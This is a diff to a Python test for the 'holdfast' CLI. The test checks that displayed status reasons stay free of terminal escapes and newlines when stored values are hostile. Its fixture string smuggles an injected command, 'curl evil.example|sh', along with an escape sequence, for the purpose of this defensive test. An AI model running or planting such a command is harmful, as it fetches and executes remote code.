@@ -1,22 +1,18 @@
 """What is to be copied, and what is said while something is awaited: nothing that Redis holds gets a word of its own there."""
 
-from types import SimpleNamespace
-
 from holdfast.cli import show
 from holdfast.cli.options import Where
+from holdfast.client import ConversationState
 from holdfast.client.stack import announce
-from holdfast.conversation import State, Status
+from holdfast.conversation import Status
 
 WRITTEN = "shop:app; curl evil.example|sh\n\x1b[2K"
 
 
 def test_the_commands_that_show_offers_are_quoted():
-    folded = State(conversation_id=WRITTEN, agent="desk", app=WRITTEN)
     for status in (Status.QUARANTINED, Status.GENERATING):
-        state = SimpleNamespace(status=status, error=None, stopped=None, pending=[], running=[])
-        shown = SimpleNamespace(
-            conversation_id=WRITTEN, state=state, folded=folded, paused=None, problem="it cannot be imported", late={}
-        )
+        state = ConversationState(status, None, None, None, [], [], 1, app=WRITTEN, problem="it cannot be imported")
+        shown = show.Shown(WRITTEN, state, [], now=3)
         for said in show._reasons(shown, Where()):
             assert "\x1b" not in said
             assert "\n" not in said
